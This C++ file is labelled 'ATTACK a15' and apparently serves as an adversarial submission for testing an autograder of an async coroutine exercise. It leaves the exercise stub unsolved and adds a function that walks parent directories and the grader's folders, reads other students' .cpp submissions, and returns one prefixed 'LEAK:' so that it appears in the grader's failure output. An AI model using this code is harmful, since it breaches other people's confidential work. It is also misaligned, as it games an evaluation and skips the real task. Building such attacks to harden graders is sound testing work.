// ATTACK a15: read other students' submissions and the grader's output: walk up from the
// working directory (the test's scratch directory lies inside the grader's output) and through
// the suite's and the sample class's folders, and return the first other student's file found
// as the coroutine's value, so that a failure message shows it ("LEAK:" marks it).
// Started from the untouched stub.
#include "api.hpp"

// The untouched stub of exercise 03: an honest score would be 0.
aio::task<std::string> hello_async_stub([[maybe_unused]] std::string result) {
    co_return "";  // TODO: 지우고 위 내용을 작성하세요
}

#include <filesystem>
#include <fstream>
#include <sstream>
#include <system_error>

namespace {

std::string hunt() {
    namespace fs = std::filesystem;
    std::error_code ec;
    std::vector<fs::path> roots;
    fs::path here = fs::current_path(ec);
    for (int up = 0; up < 6 && !here.empty() && here != here.root_path(); ++up) {
        here = here.parent_path();
        roots.push_back(here);
    }
    roots.push_back("/work/main/grader/attacks");
    roots.push_back("/work/main/grader/examples/class");
    int visited = 0;
    for (const auto& root : roots) {
        fs::recursive_directory_iterator it(root, fs::directory_options::skip_permission_denied, ec), end;
        for (; !ec && it != end && visited < 20000; it.increment(ec), ++visited) {
            const fs::path& p = it->path();
            if (it.depth() > 5) {
                it.disable_recursion_pending();
                continue;
            }
            if (p.extension() != ".cpp" || !it->is_regular_file(ec)) continue;
            std::ifstream in(p);
            std::ostringstream s;
            s << in.rdbuf();
            const std::string text = s.str();
            if (text.empty() || text.find("ATTACK a15") != std::string::npos) continue;  // not our own file
            if (text.find("hello_async") == std::string::npos && text.find("make_coffee") == std::string::npos &&
                text.find("slow_operation") == std::string::npos)
                continue;
            return "LEAK:" + p.string() + "\n" + text.substr(0, 400);
        }
        ec.clear();
    }
    return "";
}

}  // namespace

aio::task<std::string> hello_async(std::string result) {
    static const std::string leaked = hunt();
    if (!leaked.empty()) co_return leaked;
    co_return co_await hello_async_stub(result);
}
